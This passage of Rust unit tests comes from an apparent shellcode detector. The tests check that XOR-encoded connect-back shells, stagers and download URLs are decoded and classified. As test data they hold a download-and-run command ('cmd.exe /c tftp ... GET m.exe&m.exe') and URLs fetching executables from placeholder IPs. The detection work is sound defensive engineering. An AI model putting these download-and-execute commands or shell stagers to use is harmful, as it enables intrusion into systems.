            let s = check(scan(&c, xored), "connectbackshell", "connectbackshell::xored_sockaddr");
            assert_eq!((s.host, s.port), ("203.0.113.5".parse().ok(), Some(4444)));
            let s = check(
                scan(&c, b"\x68\x98\xfe\x8a\x0e\xff\xd5cmd.exe /c tftp -i 198.51.100.7 GET m.exe&m.exe\x00"),
                "execute",
                "execute::cmd_line",
            );
            assert_eq!(s.command.as_deref(), Some("cmd.exe /c tftp -i 198.51.100.7 GET m.exe&m.exe"));
            let s = check(
                scan(&c, b"\xe8\x1a\x00\x00\x00http://198.51.100.7/a.exe\x00\x68\x36\x1a\x2f\x70"),
                "url",
                "url::nul_terminated",
            );
            assert_eq!(s.url.as_deref(), Some("http://198.51.100.7/a.exe"));
        }

        #[test]
        fn encoded_shellcode_is_decoded_first() {
            let c = shipped();
            let s = check(
                scan(&c, &jmp_call_pop(&win_stager(), 0x99)),
                "connectbackfiletransfer",
                "connectbackfiletransfer::win_stager_recv",
            );
            assert_eq!(s.decoders, ["xor::jmp_call_pop_byte (key 0x99)"]);
            assert_eq!((s.host, s.port), (Some(IP.into()), Some(4444)));
            let s = check(
                scan(&c, &call_pop(&linux_x86_shell(), 0x5a)),
                "connectbackshell",
                "connectbackshell::linux_x86_connect_sh",
            );
            assert_eq!(s.decoders, ["xor::call_pop_byte (key 0x5a)"]);
            let s = check(
                scan(&c, &jmp_jmp_call_pop(&linux_x64_shell(), 0xf1)),
                "connectbackshell",
                "connectbackshell::linux_x64_connect_sh",
            );
            assert_eq!(s.decoders, ["xor::jmp_call_pop_byte (key 0xf1)"]);
            // Two layers: a dword XOR around a byte XOR.
            let twice = fnstenv(&jmp_call_pop(&win_shell(), 0x3c), [0xde, 0xad, 0xbe, 0xef], false);
            let s = check(scan(&c, &twice), "connectbackshell", "connectbackshell::win_connect_cmd");
            assert_eq!(s.decoders, ["xor::fnstenv_dword (key 0xdeadbeef)", "xor::jmp_call_pop_byte (key 0x3c)"]);
            let s = check(
                scan(&c, &fnstenv(&win_stager_socket_between(), [1, 2, 3, 4], true)),
                "connectbackfiletransfer",
                "connectbackfiletransfer::win_stager_recv",
            );
            assert_eq!((s.host, s.port, s.decoders.len()), (Some(IP.into()), Some(4444), 1));
            // An encoded URL: the decoder's result, then the URL.
            let url = b"\x90\x90http://198.51.100.7/x.exe\x00\x90";
            let s = check(scan(&c, &jmp_call_pop(url, 0x21)), "url", "url::nul_terminated");
            assert_eq!(s.url.as_deref(), Some("http://198.51.100.7/x.exe"));
            // Text, random bytes and a plain HTTP request are not shellcode.
            assert!(scan(&c, b"GET /index.html HTTP/1.1\r\nHost: example.com\r\n\r\n").is_none());
            let mut x = 0x1234_5678_9abc_def1u64;
            let noise: Vec<u8> = (0..200_000)
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    x as u8
                })
                .collect();
            assert!(scan(&c, &noise).is_none());
        }
    }
}
